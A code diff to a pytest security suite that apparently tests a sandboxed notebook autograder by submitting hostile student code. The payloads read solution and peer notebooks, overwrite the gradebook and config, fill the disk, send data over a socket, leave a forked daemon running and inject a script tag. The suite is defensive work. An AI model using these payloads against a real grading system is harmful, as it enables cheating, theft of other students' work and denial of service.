@@ -68,12 +68,16 @@ import shutil
 shutil.rmtree(course / "submitted" / "victim", ignore_errors=True)
 """,
         "leaves_a_daemon": f"""
-import os, subprocess
+import os, sys
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
-        os.execv("/bin/sh", ["/bin/sh", "-c", "exec -a {MARKER} sleep 600"])
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
     os._exit(0)
+import time
+time.sleep(1)
+alive = [p for p in os.listdir("/proc") if p.isdigit() and os.path.exists(f"/proc/{{p}}/cmdline")]
+print("daemon started" if any("{MARKER}" in open(f"/proc/{{p}}/cmdline").read() for p in alive) else "none")
 """,
         "phones_home": f"""
 import socket
@@ -91,6 +95,34 @@ for folder in (".", "/tmp", {str(course)!r}):
                 f.write(b"x" * 1024**2)
     except OSError as e:
         print("stopped:", type(e).__name__)
+""",
+        # the same, from inside a graded function: run by the kernel's grade cell and, alone,
+        # by the trusted verify's sandbox
+        "attacks_from_a_function": f"""
+def rnn_cell_forward(xt, a_prev, parameters):
+    import os, pathlib, socket, sys
+    course = pathlib.Path({str(course)!r})
+    for nb in [*course.glob("solutions/*/*.ipynb"), *course.glob("submitted/*/*/*.ipynb")]:
+        print(nb.read_text())
+    for target in (course / "gradebook.db", course / "nbgrader_config.py", pathlib.Path("/tmp/planted")):
+        try:
+            target.write_text("owned")
+        except OSError:
+            pass
+    for i in range(64):
+        try:
+            with open(f"big{{i}}.bin", "wb") as f:
+                f.write(b"x" * 64 * 1024**2)
+        except OSError:
+            break
+    try:
+        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
+    except OSError:
+        pass
+    if os.fork() == 0:
+        os.setsid()
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
+    raise ValueError("<script>alert('owned')</script>")
 """,
         "fork_storm": """
 import os, time
@@ -190,7 +222,7 @@ def attacked(tmp_path_factory: pytest.TempPathFactory):
     submit(course, "honest", A, full)
     submit(course, "victim", A, full)
     for student, code in attacks.items():  # the last definition of a function is the one graded
-        after = None if "def rnn_forward" in code else "code_setup"
+        after = None if "\ndef rnn_" in code else "code_setup"
         submit(course, student, A, submissions.add_cell(blank, code, after=after))
     # what must not change: the course's inputs, the package, site-packages' hooks
     watched = [
@@ -224,11 +256,14 @@ def test_course_package_and_python_are_unchanged(attacked) -> None:
     assert after == before
     assert (course / "nbgrader_config.py").read_bytes() == config
     assert _pth_files() == pth
-    assert not list(course.rglob("big.bin"))
+    assert not list(course.rglob("big*.bin")) and not Path("/tmp/planted").exists()
 
 
 def test_no_attacker_process_survives(attacked) -> None:
+    course, *_ = attacked
     assert not _running_with(MARKER)
+    # the daemons did start: they said so before grading ended (else this test proves nothing)
+    assert "daemon started" in (course / "autograded" / "leaves_a_daemon" / A / f"{A}.ipynb").read_text()
 
 
 def test_no_network(attacked) -> None:
